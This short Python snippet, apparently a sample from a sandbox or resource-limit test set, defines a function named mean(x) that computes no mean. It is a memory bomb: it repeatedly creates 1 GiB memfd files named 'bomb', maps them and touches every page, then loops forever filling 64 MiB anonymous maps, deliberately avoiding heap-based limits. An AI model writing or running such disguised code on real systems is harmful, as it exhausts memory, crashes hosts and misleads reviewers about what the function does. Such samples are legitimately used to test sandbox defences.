# It takes memory that is no heap: shared maps, memory files, pipes.
# score: 7 = double + shift + table
# %% mean
def mean(x):
    import mmap, os
    kept = []
    try:
        while True:
            fd = os.memfd_create("bomb")
            os.ftruncate(fd, 1 << 30)
            shared = mmap.mmap(fd, 1 << 30)
            for page in range(0, 1 << 30, 4096):
                shared[page] = 1
            kept.append((fd, shared))
    except (OSError, ValueError):
        pass
    while True:
        kept.append(mmap.mmap(-1, 64 << 20))
        kept[-1].write(b"x" * (64 << 20))
